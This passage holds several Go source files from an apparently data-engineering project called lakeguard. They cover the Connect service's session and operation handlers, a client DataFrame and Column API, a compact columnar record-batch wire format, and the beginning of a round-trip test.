// TimeoutHeader deadline.
func requestContext(r *http.Request) (context.Context, context.CancelFunc) {
	ctx := r.Context()
	if v := r.Header.Get(TimeoutHeader); v != "" {
		if ms, err := strconv.ParseInt(v, 10, 64); err == nil && ms > 0 {
			return context.WithTimeout(ctx, time.Duration(ms)*time.Millisecond)
		}
	}
	return context.WithCancel(ctx)
}

// streamBatches writes an arrowipc stream of the operation's batches
// starting at batch index `start`.
func (s *Service) streamBatches(w http.ResponseWriter, op *operation, start int) {
	w.Header().Set("Content-Type", "application/x-lakeguard-arrow")
	schema := op.schema
	if schema == nil {
		schema = &types.Schema{}
	}
	wr, err := arrowipc.NewWriter(w, schema)
	if err != nil {
		return
	}
	for i := start; i < len(op.batches); i++ {
		if err := wr.WriteBatch(op.batches[i]); err != nil {
			return
		}
	}
	_ = wr.Close()
}

func (s *Service) handleAnalyze(w http.ResponseWriter, r *http.Request) {
	s.serveAnalyze(w, r, s.backend.Analyze)
}

func (s *Service) handleAnalyzeVerified(w http.ResponseWriter, r *http.Request) {
	ve, ok := s.backend.(VerifiedExplainer)
	if !ok {
		writeError(w, http.StatusNotImplemented, errors.New("connect: backend does not support verified explain"))
		return
	}
	s.serveAnalyze(w, r, ve.AnalyzeVerified)
}

func (s *Service) serveAnalyze(w http.ResponseWriter, r *http.Request, analyze func(sessionID, user string, rel plan.Node) (*types.Schema, string, error)) {
	user, sessionID, err := s.authenticate(r)
	if err != nil {
		writeError(w, http.StatusUnauthorized, err)
		return
	}
	s.touchSession(sessionID)
	body, err := io.ReadAll(io.LimitReader(r.Body, 64<<20))
	if err != nil {
		writeError(w, http.StatusBadRequest, err)
		return
	}
	rel, err := proto.DecodePlan(body)
	if err != nil {
		writeError(w, http.StatusBadRequest, err)
		return
	}
	schema, explain, err := analyze(sessionID, user, rel)
	if err != nil {
		writeError(w, http.StatusBadRequest, err)
		return
	}
	type fieldJSON struct {
		Name     string `json:"name"`
		Kind     uint8  `json:"kind"`
		Nullable bool   `json:"nullable"`
	}
	resp := struct {
		Fields  []fieldJSON `json:"fields"`
		Explain string      `json:"explain"`
	}{Explain: explain}
	for _, f := range schema.Fields {
		resp.Fields = append(resp.Fields, fieldJSON{Name: f.Name, Kind: uint8(f.Kind), Nullable: f.Nullable})
	}
	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(resp)
}

func (s *Service) handleReattach(w http.ResponseWriter, r *http.Request) {
	_, sessionID, err := s.authenticate(r)
	if err != nil {
		writeError(w, http.StatusUnauthorized, err)
		return
	}
	opID := r.URL.Query().Get("operation")
	start, _ := strconv.Atoi(r.URL.Query().Get("start"))
	s.mu.Lock()
	op := s.operations[opID]
	if op != nil {
		op.lastAccess = s.clock()
	}
	s.mu.Unlock()
	switch {
	case op == nil:
		writeError(w, http.StatusNotFound, fmt.Errorf("connect: unknown operation %q", opID))
		return
	case op.sessionID != sessionID:
		// Cross-session operation access is an isolation violation.
		writeError(w, http.StatusForbidden, errors.New("connect: operation belongs to another session"))
		return
	case op.state == OpTombstoned:
		writeError(w, http.StatusGone, errors.New("connect: operation tombstoned after client disappeared"))
		return
	case op.state == OpFailed:
		writeError(w, http.StatusBadRequest, errors.New(op.errMsg))
		return
	}
	if start < 0 || start > len(op.batches) {
		writeError(w, http.StatusBadRequest, fmt.Errorf("connect: invalid start %d", start))
		return
	}
	w.Header().Set("X-Operation-Id", op.id)
	s.streamBatches(w, op, start)
}

func (s *Service) handleRelease(w http.ResponseWriter, r *http.Request) {
	_, sessionID, err := s.authenticate(r)
	if err != nil {
		writeError(w, http.StatusUnauthorized, err)
		return
	}
	opID := r.URL.Query().Get("operation")
	s.mu.Lock()
	if op := s.operations[opID]; op != nil && op.sessionID == sessionID {
		delete(s.operations, opID)
	}
	s.mu.Unlock()
	w.WriteHeader(http.StatusOK)
}

func (s *Service) handleCloseSession(w http.ResponseWriter, r *http.Request) {
	_, sessionID, err := s.authenticate(r)
	if err != nil {
		writeError(w, http.StatusUnauthorized, err)
		return
	}
	s.mu.Lock()
	delete(s.sessions, sessionID)
	for id, op := range s.operations {
		if op.sessionID == sessionID {
			delete(s.operations, id)
		}
	}
	s.mu.Unlock()
	s.backend.CloseSession(sessionID)
	w.WriteHeader(http.StatusOK)
}

// SweepIdle tombstones operations and closes sessions idle longer than
// maxAge — the lifecycle management §3.2.3 describes (abandon and tombstone
// executions whose clients disappeared). It returns how many operations were
// tombstoned and sessions closed.
func (s *Service) SweepIdle(maxAge time.Duration) (ops, sessions int) {
	now := s.clock()
	var closed []string
	s.mu.Lock()
	for _, op := range s.operations {
		if op.state != OpTombstoned && now.Sub(op.lastAccess) > maxAge {
			op.state = OpTombstoned
			op.batches = nil // free buffered results
			ops++
		}
	}
	for id, last := range s.sessions {
		if now.Sub(last) > maxAge {
			delete(s.sessions, id)
			closed = append(closed, id)
		}
	}
	s.mu.Unlock()
	for _, id := range closed {
		s.backend.CloseSession(id)
	}
	return ops, len(closed)
}

// StartSweeper runs SweepIdle on a fixed interval until the returned stop
// function is called (production servers run one per endpoint).
func (s *Service) StartSweeper(interval, maxAge time.Duration) (stop func()) {
	done := make(chan struct{})
	go func() {
		ticker := time.NewTicker(interval)
		defer ticker.Stop()
		for {
			select {
			case <-ticker.C:
				s.SweepIdle(maxAge)
			case <-done:
				return
			}
		}
	}()
	var once sync.Once
	return func() { once.Do(func() { close(done) }) }
}

// OperationStateOf reports an operation's state (test/diagnostic hook).
func (s *Service) OperationStateOf(opID string) (OperationState, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	op, ok := s.operations[opID]
	if !ok {
		return "", false
	}
	return op.state, true
}

// ActiveSessions reports the number of live sessions.
func (s *Service) ActiveSessions() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.sessions)
}
