package connect

import (
	"fmt"

	"lakeguard/internal/plan"
	"lakeguard/internal/proto"
	"lakeguard/internal/types"
)

// DataFrame is a lazy, immutable description of a computation. Transform
// methods capture operations into an unresolved plan; actions (Collect,
// Count, Show, Write) serialize the plan and execute it remotely — the
// Connect flow of paper Figure 5.
type DataFrame struct {
	client *Client
	node   plan.Node
}

// Plan exposes the captured unresolved plan.
func (df *DataFrame) Plan() plan.Node { return df.node }

func (df *DataFrame) with(node plan.Node) *DataFrame {
	return &DataFrame{client: df.client, node: node}
}

// Select projects columns. Arguments may be Column values or plain column
// name strings.
func (df *DataFrame) Select(cols ...any) *DataFrame {
	exprs := make([]plan.Expr, len(cols))
	for i, c := range cols {
		switch t := c.(type) {
		case Column:
			exprs[i] = t.expr
		case string:
			if t == "*" {
				exprs[i] = &plan.Star{}
			} else {
				exprs[i] = plan.Col(t)
			}
		default:
			panic(fmt.Sprintf("connect: Select argument %T (want Column or string)", c))
		}
	}
	return df.with(&plan.Project{Exprs: exprs, Child: df.node})
}

// Where filters rows.
func (df *DataFrame) Where(cond Column) *DataFrame {
	return df.with(&plan.Filter{Cond: cond.expr, Child: df.node})
}

// Filter is an alias of Where.
func (df *DataFrame) Filter(cond Column) *DataFrame { return df.Where(cond) }

// WithColumn appends a computed column to the current columns.
func (df *DataFrame) WithColumn(name string, col Column) *DataFrame {
	return df.with(&plan.Project{
		Exprs: []plan.Expr{&plan.Star{}, plan.As(col.expr, name)},
		Child: df.node,
	})
}

// Alias names the relation for qualified references.
func (df *DataFrame) Alias(name string) *DataFrame {
	return df.with(&plan.SubqueryAlias{Name: name, Child: df.node})
}

// Join combines with another DataFrame. how is one of "inner", "left",
// "right", "full", "cross", "semi", "anti".
func (df *DataFrame) Join(other *DataFrame, on Column, how string) *DataFrame {
	var jt plan.JoinType
	switch how {
	case "inner", "":
		jt = plan.JoinInner
	case "left":
		jt = plan.JoinLeft
	case "right":
		jt = plan.JoinRight
	case "full":
		jt = plan.JoinFull
	case "cross":
		jt = plan.JoinCross
	case "semi":
		jt = plan.JoinLeftSemi
	case "anti":
		jt = plan.JoinLeftAnti
	default:
		panic("connect: unknown join type " + how)
	}
	var cond plan.Expr
	if jt != plan.JoinCross {
		cond = on.expr
	}
	return df.with(&plan.Join{Type: jt, Cond: cond, L: df.node, R: other.node})
}

// GroupBy starts a grouped aggregation.
func (df *DataFrame) GroupBy(cols ...any) *GroupedData {
	exprs := make([]plan.Expr, len(cols))
	for i, c := range cols {
		switch t := c.(type) {
		case Column:
			exprs[i] = t.expr
		case string:
			exprs[i] = plan.Col(t)
		default:
			panic(fmt.Sprintf("connect: GroupBy argument %T", c))
		}
	}
	return &GroupedData{df: df, groupBy: exprs}
}

// GroupedData is a pending aggregation.
type GroupedData struct {
	df      *DataFrame
	groupBy []plan.Expr
}

// Agg completes the aggregation with output expressions; group columns must
// be included explicitly if wanted in the output.
func (g *GroupedData) Agg(cols ...Column) *DataFrame {
	items := make([]plan.Expr, 0, len(g.groupBy)+len(cols))
	items = append(items, g.groupBy...)
	for _, c := range cols {
		items = append(items, c.expr)
	}
	return g.df.with(&plan.Aggregate{GroupBy: g.groupBy, Aggs: items, Child: g.df.node})
}

// OrderBy sorts the result.
func (df *DataFrame) OrderBy(keys ...SortKey) *DataFrame {
	orders := make([]plan.SortOrder, len(keys))
	for i, k := range keys {
		orders[i] = plan.SortOrder{Expr: k.expr, Desc: k.desc}
	}
	return df.with(&plan.Sort{Orders: orders, Child: df.node})
}

// Limit truncates the result.
func (df *DataFrame) Limit(n int64) *DataFrame {
	return df.with(&plan.Limit{N: n, Child: df.node})
}

// Distinct removes duplicate rows.
func (df *DataFrame) Distinct() *DataFrame {
	return df.with(&plan.Distinct{Child: df.node})
}

// Union appends another DataFrame's rows (UNION ALL).
func (df *DataFrame) Union(other *DataFrame) *DataFrame {
	return df.with(&plan.Union{L: df.node, R: other.node})
}

// --- actions ---

// Collect executes the plan and returns the full result.
func (df *DataFrame) Collect() (*types.Batch, error) {
	return df.client.ExecutePlan(&proto.Plan{Relation: df.node})
}

// Count executes and returns the row count.
func (df *DataFrame) Count() (int64, error) {
	agg := df.with(&plan.Aggregate{
		Aggs:  []plan.Expr{plan.As(&plan.FuncCall{Name: "count"}, "count")},
		Child: df.node,
	})
	b, err := agg.Collect()
	if err != nil {
		return 0, err
	}
	if b.NumRows() != 1 {
		return 0, fmt.Errorf("connect: count returned %d rows", b.NumRows())
	}
	return b.Cols[0].Int64(0), nil
}

// Show executes and renders the result as a text table.
func (df *DataFrame) Show() (string, error) {
	b, err := df.Collect()
	if err != nil {
		return "", err
	}
	return b.String(), nil
}

// Schema resolves the plan remotely and returns the result schema.
func (df *DataFrame) Schema() (*types.Schema, error) {
	schema, _, err := df.client.AnalyzePlan(df.node)
	return schema, err
}

// Explain resolves the plan remotely and returns the (policy-redacted)
// EXPLAIN rendering.
func (df *DataFrame) Explain() (string, error) {
	_, explain, err := df.client.AnalyzePlan(df.node)
	return explain, err
}

// ExplainVerified is Explain with sentinel annotations: each policy operator
// in the rendering names the static security invariants that cleared it.
func (df *DataFrame) ExplainVerified() (string, error) {
	_, explain, err := df.client.AnalyzePlanVerified(df.node)
	return explain, err
}

// ExplainAnalyze executes the DataFrame with profiling and returns the
// annotated operator tree (wall time, rows, batches, vectorization).
func (df *DataFrame) ExplainAnalyze() (string, error) {
	analyze, _, err := df.client.ExplainAnalyze(&proto.Plan{Relation: df.node})
	return analyze, err
}

// CreateTempView registers the DataFrame as a session-scoped view.
func (df *DataFrame) CreateTempView(name string) error {
	_, err := df.client.ExecutePlan(&proto.Plan{Command: &proto.Command{
		CreateTempView: &proto.CreateTempView{Name: name, Input: df.node},
	}})
	return err
}

// InsertInto appends the DataFrame's rows into a table.
func (df *DataFrame) InsertInto(table string) error {
	_, err := df.client.ExecutePlan(&proto.Plan{Command: &proto.Command{
		InsertInto: &proto.InsertInto{Table: splitTableName(table), Input: df.node},
	}})
	return err
}

func splitTableName(name string) []string {
	var parts []string
	start := 0
	for i := 0; i <= len(name); i++ {
		if i == len(name) || name[i] == '.' {
			parts = append(parts, name[start:i])
			start = i + 1
		}
	}
	return parts
}
