// Package connect implements the Connect protocol endpoints (the Spark
// Connect analog, paper §3.2): an HTTP service that accepts serialized
// unresolved plans and streams arrowipc result batches back, with session
// management, reattachable executions, and operation tombstoning; plus the
// Go client with a DataFrame API that captures operations and lowers them to
// the wire format.
package connect

import (
	"lakeguard/internal/plan"
	"lakeguard/internal/types"
)

// Column is the client-side expression builder. Methods return new Columns;
// nothing is evaluated until an action runs the containing DataFrame.
type Column struct {
	expr plan.Expr
}

// Col references a column by (optionally qualified) name.
func Col(name string) Column { return Column{expr: plan.Col(name)} }

// Lit builds a literal column from a Go value (int, int64, float64, string,
// bool) or a types.Value.
func Lit(v any) Column {
	switch t := v.(type) {
	case types.Value:
		return Column{expr: plan.Lit(t)}
	case int:
		return Column{expr: plan.Lit(types.Int64(int64(t)))}
	case int64:
		return Column{expr: plan.Lit(types.Int64(t))}
	case float64:
		return Column{expr: plan.Lit(types.Float64(t))}
	case string:
		return Column{expr: plan.Lit(types.String(t))}
	case bool:
		return Column{expr: plan.Lit(types.Bool(t))}
	}
	panic("connect: unsupported literal type")
}

// Star selects all columns.
func Star() Column { return Column{expr: &plan.Star{}} }

// CurrentUser references the session user.
func CurrentUser() Column { return Column{expr: &plan.CurrentUser{}} }

// Call invokes a function (builtin, aggregate, or UDF) by name.
func Call(name string, args ...Column) Column {
	exprs := make([]plan.Expr, len(args))
	for i, a := range args {
		exprs[i] = a.expr
	}
	return Column{expr: &plan.FuncCall{Name: name, Args: exprs}}
}

// Expr exposes the underlying plan expression.
func (c Column) Expr() plan.Expr { return c.expr }

func (c Column) bin(op plan.BinOp, o Column) Column {
	return Column{expr: plan.NewBinary(op, c.expr, o.expr)}
}

// Eq builds c = o.
func (c Column) Eq(o Column) Column { return c.bin(plan.OpEq, o) }

// Neq builds c <> o.
func (c Column) Neq(o Column) Column { return c.bin(plan.OpNeq, o) }

// Lt builds c < o.
func (c Column) Lt(o Column) Column { return c.bin(plan.OpLt, o) }

// Lte builds c <= o.
func (c Column) Lte(o Column) Column { return c.bin(plan.OpLte, o) }

// Gt builds c > o.
func (c Column) Gt(o Column) Column { return c.bin(plan.OpGt, o) }

// Gte builds c >= o.
func (c Column) Gte(o Column) Column { return c.bin(plan.OpGte, o) }

// Add builds c + o.
func (c Column) Add(o Column) Column { return c.bin(plan.OpAdd, o) }

// Sub builds c - o.
func (c Column) Sub(o Column) Column { return c.bin(plan.OpSub, o) }

// Mul builds c * o.
func (c Column) Mul(o Column) Column { return c.bin(plan.OpMul, o) }

// Div builds c / o.
func (c Column) Div(o Column) Column { return c.bin(plan.OpDiv, o) }

// And builds c AND o.
func (c Column) And(o Column) Column { return c.bin(plan.OpAnd, o) }

// Or builds c OR o.
func (c Column) Or(o Column) Column { return c.bin(plan.OpOr, o) }

// Not negates a boolean column.
func (c Column) Not() Column {
	return Column{expr: &plan.Unary{Op: plan.OpNot, Child: c.expr}}
}

// IsNull tests for NULL.
func (c Column) IsNull() Column {
	return Column{expr: &plan.IsNull{Child: c.expr}}
}

// IsNotNull tests for non-NULL.
func (c Column) IsNotNull() Column {
	return Column{expr: &plan.IsNull{Child: c.expr, Negated: true}}
}

// Like matches a SQL pattern.
func (c Column) Like(pattern string) Column {
	return Column{expr: &plan.Like{Child: c.expr, Pattern: plan.Lit(types.String(pattern))}}
}

// In tests membership in a literal list.
func (c Column) In(items ...Column) Column {
	list := make([]plan.Expr, len(items))
	for i, it := range items {
		list[i] = it.expr
	}
	return Column{expr: &plan.InList{Child: c.expr, List: list}}
}

// Cast converts to a SQL type by name ("BIGINT", "DATE", ...).
func (c Column) Cast(typeName string) Column {
	kind, ok := types.KindFromName(typeName)
	if !ok {
		panic("connect: unknown type " + typeName)
	}
	return Column{expr: &plan.Cast{Child: c.expr, To: kind}}
}

// As names the column in the output.
func (c Column) As(name string) Column {
	return Column{expr: plan.As(c.expr, name)}
}

// Asc is an ascending sort key.
func (c Column) Asc() SortKey { return SortKey{expr: c.expr} }

// Desc is a descending sort key.
func (c Column) Desc() SortKey { return SortKey{expr: c.expr, desc: true} }

// SortKey is an ORDER BY term.
type SortKey struct {
	expr plan.Expr
	desc bool
}

// Aggregate builders.

// Sum aggregates a column.
func Sum(c Column) Column { return Call("sum", c) }

// Avg aggregates a column.
func Avg(c Column) Column { return Call("avg", c) }

// Min aggregates a column.
func Min(c Column) Column { return Call("min", c) }

// Max aggregates a column.
func Max(c Column) Column { return Call("max", c) }

// Count counts non-null values of a column.
func Count(c Column) Column { return Call("count", c) }

// CountAll counts rows.
func CountAll() Column { return Column{expr: &plan.FuncCall{Name: "count"}} }
