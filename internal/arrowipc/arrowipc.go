// Package arrowipc implements a compact columnar record-batch wire format in
// the spirit of Arrow IPC. A stream is a schema message followed by zero or
// more record-batch messages and an end marker; each message is a
// length-prefixed frame. The format is used for Connect query results, Delta
// data files, and sandbox IPC, so encode/decode must be an exact identity on
// every batch (property-tested).
//
// Frame layout (all integers little-endian):
//
//	frame     := u32 length | u8 msgType | payload
//	msgType   := 0 schema | 1 batch | 2 end
//	schema    := u16 nFields | field*
//	field     := u16 nameLen | name | u8 kind | u8 nullable
//	batch     := u32 nRows | column*
//	column    := u8 hasNulls | [bitmapBytes] | buffer
//	buffer    := ints: 8*n bytes | floats: 8*n bytes
//	           | strings: u32 offsets[n+1] | bytes
package arrowipc

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math"

	"lakeguard/internal/types"
)

// Message types.
const (
	msgSchema byte = 0
	msgBatch  byte = 1
	msgEnd    byte = 2
)

// MaxFrameSize bounds a single frame to guard against corrupted length
// prefixes (64 MiB).
const MaxFrameSize = 64 << 20

// ErrClosed is returned when reading past the end marker.
var ErrClosed = errors.New("arrowipc: stream closed")

// Writer encodes a stream of batches sharing one schema.
type Writer struct {
	w      io.Writer
	schema *types.Schema
	buf    []byte
	closed bool
}

// NewWriter starts a stream by writing the schema message.
func NewWriter(w io.Writer, schema *types.Schema) (*Writer, error) {
	wr := &Writer{w: w, schema: schema}
	payload := appendSchema(nil, schema)
	if err := wr.writeFrame(msgSchema, payload); err != nil {
		return nil, err
	}
	return wr, nil
}

// WriteBatch appends one record batch to the stream.
func (wr *Writer) WriteBatch(b *types.Batch) error {
	if wr.closed {
		return ErrClosed
	}
	if !b.Schema.Equal(wr.schema) {
		return fmt.Errorf("arrowipc: batch schema %s does not match stream schema %s", b.Schema, wr.schema)
	}
	wr.buf = appendBatch(wr.buf[:0], b)
	return wr.writeFrame(msgBatch, wr.buf)
}

// Close writes the end marker. The underlying writer is not closed.
func (wr *Writer) Close() error {
	if wr.closed {
		return nil
	}
	wr.closed = true
	return wr.writeFrame(msgEnd, nil)
}

func (wr *Writer) writeFrame(msgType byte, payload []byte) error {
	if len(payload)+1 > MaxFrameSize {
		return fmt.Errorf("arrowipc: frame of %d bytes exceeds limit", len(payload))
	}
	var hdr [5]byte
	binary.LittleEndian.PutUint32(hdr[:4], uint32(len(payload)+1))
	hdr[4] = msgType
	if _, err := wr.w.Write(hdr[:]); err != nil {
		return err
	}
	if len(payload) > 0 {
		if _, err := wr.w.Write(payload); err != nil {
			return err
		}
	}
	return nil
}

// Reader decodes a stream written by Writer.
type Reader struct {
	r      io.Reader
	schema *types.Schema
	done   bool
}

// NewReader consumes the schema message and prepares to read batches.
func NewReader(r io.Reader) (*Reader, error) {
	rd := &Reader{r: r}
	msgType, payload, err := rd.readFrame()
	if err != nil {
		return nil, err
	}
	if msgType != msgSchema {
		return nil, fmt.Errorf("arrowipc: expected schema message, got type %d", msgType)
	}
	schema, _, err := decodeSchema(payload)
	if err != nil {
		return nil, err
	}
	rd.schema = schema
	return rd, nil
}

// Schema returns the stream schema.
func (rd *Reader) Schema() *types.Schema { return rd.schema }

// Next returns the next batch, or io.EOF after the end marker.
func (rd *Reader) Next() (*types.Batch, error) {
	if rd.done {
		return nil, io.EOF
	}
	msgType, payload, err := rd.readFrame()
	if err != nil {
		return nil, err
	}
	switch msgType {
	case msgBatch:
		return decodeBatch(payload, rd.schema)
	case msgEnd:
		rd.done = true
		return nil, io.EOF
	}
	return nil, fmt.Errorf("arrowipc: unexpected message type %d", msgType)
}

// ReadAll drains the stream into a slice of batches.
func (rd *Reader) ReadAll() ([]*types.Batch, error) {
	var out []*types.Batch
	for {
		b, err := rd.Next()
		if errors.Is(err, io.EOF) {
			return out, nil
		}
		if err != nil {
			return nil, err
		}
		out = append(out, b)
	}
}

func (rd *Reader) readFrame() (byte, []byte, error) {
	var hdr [4]byte
	if _, err := io.ReadFull(rd.r, hdr[:]); err != nil {
		return 0, nil, err
	}
	n := binary.LittleEndian.Uint32(hdr[:])
	if n == 0 || n > MaxFrameSize {
		return 0, nil, fmt.Errorf("arrowipc: invalid frame length %d", n)
	}
	body := make([]byte, n)
	if _, err := io.ReadFull(rd.r, body); err != nil {
		return 0, nil, err
	}
	return body[0], body[1:], nil
}

// --- payload encoding ---

func appendSchema(buf []byte, s *types.Schema) []byte {
	buf = binary.LittleEndian.AppendUint16(buf, uint16(len(s.Fields)))
	for _, f := range s.Fields {
		buf = binary.LittleEndian.AppendUint16(buf, uint16(len(f.Name)))
		buf = append(buf, f.Name...)
		buf = append(buf, byte(f.Kind))
		if f.Nullable {
			buf = append(buf, 1)
		} else {
			buf = append(buf, 0)
		}
	}
	return buf
}

func decodeSchema(buf []byte) (*types.Schema, int, error) {
	if len(buf) < 2 {
		return nil, 0, errors.New("arrowipc: truncated schema")
	}
	n := int(binary.LittleEndian.Uint16(buf))
	pos := 2
	s := &types.Schema{Fields: make([]types.Field, 0, n)}
	for i := 0; i < n; i++ {
		if pos+2 > len(buf) {
			return nil, 0, errors.New("arrowipc: truncated schema field")
		}
		nameLen := int(binary.LittleEndian.Uint16(buf[pos:]))
		pos += 2
		if pos+nameLen+2 > len(buf) {
			return nil, 0, errors.New("arrowipc: truncated schema field body")
		}
		name := string(buf[pos : pos+nameLen])
		pos += nameLen
		kind := types.Kind(buf[pos])
		nullable := buf[pos+1] == 1
		pos += 2
		if !kind.Valid() {
			return nil, 0, fmt.Errorf("arrowipc: invalid kind %d for field %q", kind, name)
		}
		s.Fields = append(s.Fields, types.Field{Name: name, Kind: kind, Nullable: nullable})
	}
	return s, pos, nil
}

func appendBatch(buf []byte, b *types.Batch) []byte {
	n := b.NumRows()
	buf = binary.LittleEndian.AppendUint32(buf, uint32(n))
	for _, col := range b.Cols {
		buf = appendColumn(buf, col, n)
	}
	return buf
}

func appendColumn(buf []byte, col *types.Column, n int) []byte {
	hasNulls := col.HasNulls()
	if hasNulls {
		buf = append(buf, 1)
		bitmap := make([]byte, (n+7)/8)
		for i := 0; i < n; i++ {
			if col.IsNull(i) {
				bitmap[i/8] |= 1 << (i % 8)
			}
		}
		buf = append(buf, bitmap...)
	} else {
		buf = append(buf, 0)
	}
	switch col.Kind() {
	case types.KindBool, types.KindInt64, types.KindDate, types.KindTimestamp:
		for i := 0; i < n; i++ {
			buf = binary.LittleEndian.AppendUint64(buf, uint64(col.Int64(i)))
		}
	case types.KindFloat64:
		for i := 0; i < n; i++ {
			buf = binary.LittleEndian.AppendUint64(buf, math.Float64bits(col.Float64(i)))
		}
	case types.KindString, types.KindBinary:
		off := uint32(0)
		buf = binary.LittleEndian.AppendUint32(buf, off)
		for i := 0; i < n; i++ {
			off += uint32(len(col.StringAt(i)))
			buf = binary.LittleEndian.AppendUint32(buf, off)
		}
		for i := 0; i < n; i++ {
			buf = append(buf, col.StringAt(i)...)
		}
	}
	return buf
}

func decodeBatch(buf []byte, schema *types.Schema) (*types.Batch, error) {
	if len(buf) < 4 {
		return nil, errors.New("arrowipc: truncated batch")
	}
	n := int(binary.LittleEndian.Uint32(buf))
	pos := 4
	cols := make([]*types.Column, schema.Len())
	for ci, f := range schema.Fields {
		col, next, err := decodeColumn(buf, pos, f.Kind, n)
		if err != nil {
			return nil, fmt.Errorf("arrowipc: column %q: %w", f.Name, err)
		}
		cols[ci] = col
		pos = next
	}
	return types.NewBatch(schema, cols)
}

func decodeColumn(buf []byte, pos int, kind types.Kind, n int) (*types.Column, int, error) {
	if pos >= len(buf) {
		return nil, 0, errors.New("truncated column header")
	}
	hasNulls := buf[pos] == 1
	pos++
	var bitmap []byte
	if hasNulls {
		bl := (n + 7) / 8
		if pos+bl > len(buf) {
			return nil, 0, errors.New("truncated null bitmap")
		}
		bitmap = buf[pos : pos+bl]
		pos += bl
	}
	isNull := func(i int) bool {
		return bitmap != nil && bitmap[i/8]&(1<<(i%8)) != 0
	}
	b := types.NewBuilder(kind, n)
	switch kind {
	case types.KindBool, types.KindInt64, types.KindDate, types.KindTimestamp:
		if pos+8*n > len(buf) {
			return nil, 0, errors.New("truncated int buffer")
		}
		for i := 0; i < n; i++ {
			if isNull(i) {
				b.AppendNull()
			} else {
				b.AppendInt64(int64(binary.LittleEndian.Uint64(buf[pos+8*i:])))
			}
		}
		pos += 8 * n
	case types.KindFloat64:
		if pos+8*n > len(buf) {
			return nil, 0, errors.New("truncated float buffer")
		}
		for i := 0; i < n; i++ {
			if isNull(i) {
				b.AppendNull()
			} else {
				b.AppendFloat64(math.Float64frombits(binary.LittleEndian.Uint64(buf[pos+8*i:])))
			}
		}
		pos += 8 * n
	case types.KindString, types.KindBinary:
		if pos+4*(n+1) > len(buf) {
			return nil, 0, errors.New("truncated offsets")
		}
		offsets := make([]uint32, n+1)
		for i := range offsets {
			offsets[i] = binary.LittleEndian.Uint32(buf[pos+4*i:])
		}
		pos += 4 * (n + 1)
		total := int(offsets[n])
		if pos+total > len(buf) {
			return nil, 0, errors.New("truncated string data")
		}
		data := buf[pos : pos+total]
		for i := 0; i < n; i++ {
			if isNull(i) {
				b.AppendNull()
				continue
			}
			lo, hi := offsets[i], offsets[i+1]
			if lo > hi || int(hi) > total {
				return nil, 0, errors.New("invalid string offsets")
			}
			b.AppendString(string(data[lo:hi]))
		}
		pos += total
	default:
		return nil, 0, fmt.Errorf("unsupported kind %v", kind)
	}
	return b.Build(), pos, nil
}

// EncodeBatch serializes a single batch (schema included) to bytes.
func EncodeBatch(b *types.Batch) ([]byte, error) {
	var buf sliceWriter
	w, err := NewWriter(&buf, b.Schema)
	if err != nil {
		return nil, err
	}
	if err := w.WriteBatch(b); err != nil {
		return nil, err
	}
	if err := w.Close(); err != nil {
		return nil, err
	}
	return buf.data, nil
}

// DecodeBatch reverses EncodeBatch. Multiple batches in the stream are
// concatenated into one.
func DecodeBatch(data []byte) (*types.Batch, error) {
	rd, err := NewReader(&sliceReader{data: data})
	if err != nil {
		return nil, err
	}
	batches, err := rd.ReadAll()
	if err != nil {
		return nil, err
	}
	return ConcatBatches(rd.Schema(), batches)
}

// ConcatBatches merges batches sharing a schema into one batch. An empty
// input yields an empty batch of the given schema.
func ConcatBatches(schema *types.Schema, batches []*types.Batch) (*types.Batch, error) {
	total := 0
	for _, b := range batches {
		total += b.NumRows()
	}
	bb := types.NewBatchBuilder(schema, total)
	for _, b := range batches {
		if !b.Schema.Equal(schema) {
			return nil, fmt.Errorf("arrowipc: cannot concat mismatched schema %s vs %s", b.Schema, schema)
		}
		for i := 0; i < b.NumRows(); i++ {
			bb.AppendRow(b.Row(i))
		}
	}
	return bb.Build(), nil
}

type sliceWriter struct{ data []byte }

func (s *sliceWriter) Write(p []byte) (int, error) {
	s.data = append(s.data, p...)
	return len(p), nil
}

type sliceReader struct {
	data []byte
	pos  int
}

func (s *sliceReader) Read(p []byte) (int, error) {
	if s.pos >= len(s.data) {
		return 0, io.EOF
	}
	n := copy(p, s.data[s.pos:])
	s.pos += n
	return n, nil
}
