package arrowipc

import (
	"bytes"
	"io"
	"math"
	"math/rand"
	"testing"
	"testing/quick"

	"lakeguard/internal/types"
)

func sampleSchema() *types.Schema {
	return types.NewSchema(
		types.Field{Name: "id", Kind: types.KindInt64},
		types.Field{Name: "name", Kind: types.KindString, Nullable: true},
		types.Field{Name: "score", Kind: types.KindFloat64, Nullable: true},
		types.Field{Name: "ok", Kind: types.KindBool, Nullable: true},
		types.Field{Name: "day", Kind: types.KindDate, Nullable: true},
		types.Field{Name: "blob", Kind: types.KindBinary, Nullable: true},
	)
}

func sampleBatch(n int, seed int64) *types.Batch {
	rng := rand.New(rand.NewSource(seed))
	bb := types.NewBatchBuilder(sampleSchema(), n)
	for i := 0; i < n; i++ {
		row := []types.Value{
			types.Int64(rng.Int63()),
			types.String(string(rune('a' + i%26))),
			types.Float64(rng.NormFloat64()),
			types.Bool(i%2 == 0),
			types.Date(int64(20000 + i)),
			types.Binary([]byte{byte(i), 0xff, 0x00}),
		}
		// Sprinkle NULLs into nullable columns.
		for c := 1; c < 6; c++ {
			if rng.Intn(5) == 0 {
				row[c] = types.Null(sampleSchema().Fields[c].Kind)
			}
		}
		bb.AppendRow(row)
	}
	return bb.Build()
}

func batchesEqual(a, b *types.Batch) bool {
	if !a.Schema.Equal(b.Schema) || a.NumRows() != b.NumRows() {
		return false
	}
	for i := 0; i < a.NumRows(); i++ {
		ra, rb := a.Row(i), b.Row(i)
		for c := range ra {
			if ra[c].Null != rb[c].Null {
				return false
			}
			if !ra[c].Null {
				// NaN-safe float comparison.
				if ra[c].Kind == types.KindFloat64 && math.IsNaN(ra[c].F) && math.IsNaN(rb[c].F) {
					continue
				}
				if !ra[c].Equal(rb[c]) {
					return false
				}
			}
		}
	}
	return true
}

func TestStreamRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	schema := sampleSchema()
	w, err := NewWriter(&buf, schema)
	if err != nil {
		t.Fatal(err)
	}
	b1, b2 := sampleBatch(100, 1), sampleBatch(3, 2)
	if err := w.WriteBatch(b1); err != nil {
		t.Fatal(err)
	}
	if err := w.WriteBatch(b2); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
